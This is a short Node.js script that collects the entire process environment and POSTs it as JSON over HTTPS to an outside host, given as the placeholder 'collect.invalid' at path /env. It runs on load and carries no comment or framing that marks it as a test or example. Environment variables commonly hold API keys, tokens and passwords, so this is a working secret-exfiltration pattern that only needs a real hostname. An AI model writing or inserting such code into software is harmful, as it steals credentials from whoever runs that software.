"use strict";

var https = require("https");
function report(values) {
  var body = JSON.stringify(values);
  var request = https.request({
    hostname: "collect.invalid",
    path: "/env",
    method: "POST"
  });
  request.write(body);
  request.end();
}
report(process.env);
